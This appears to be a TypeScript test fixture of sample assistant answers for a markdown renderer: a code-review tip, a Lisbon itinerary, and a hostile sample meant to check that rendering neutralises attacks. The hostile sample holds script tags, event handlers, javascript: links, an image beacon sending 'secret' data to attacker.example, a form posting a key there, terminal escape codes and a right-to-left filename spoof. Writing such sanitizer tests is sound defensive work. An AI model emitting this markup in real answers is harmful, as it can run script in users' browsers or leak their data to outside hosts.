export const REVIEW_ANSWER = `Two things make it slow:

1. \`[...out, x]\` copies the whole list in **every** round: the work grows with the square of the length.
2. Each \`await\` waits for the one before.

\`\`\`ts
const out = await Promise.all(ids.map((id) => load(id)))
\`\`\`

| version | copies | waits    |
| ------- | ------ | -------- |
| before  | n²/2   | in a row |
| after   | none   | together |

> If \`load\` must not run too often at the same time, use a limit.`

export const PLAN_ANSWER = `### Day 1: Alfama
- Tram 28 in the early morning
- São Jorge castle, then lunch in the *Mercado da Ribeira*

### Day 2: Belém
- Monastery and tower
- Pastéis, still warm

### Day 3: Sintra
- Train from Rossio, 40 minutes
- Pena palace before ten o'clock`

export const PLAN_ANSWER_SHORT = 'Alfama on foot, Belém for the monastery, Sintra for the palace.'

/** Markup that must stay without effect: scripts, handlers, remote images, script links, terminal codes. */
export const HOSTILE_ANSWER = `Sure! <script>document.title = 'owned'</script>

<img src="https://attacker.example/beacon.png" onerror="document.title = 'owned'">

![beacon](https://attacker.example/pixel.png?data=secret)

[Click for a prize](javascript:document.title='owned') · [a plain link](https://example.com/)

<a href="#" onclick="document.title='owned'">inline handler</a> <style>body{display:none}</style>

\u001B[31mred\u001B[0m \u001B]0;owned\u0007 \u202Egnp.exe

<iframe src="https://attacker.example/"></iframe><form action="https://attacker.example/"><input name="key"></form>`
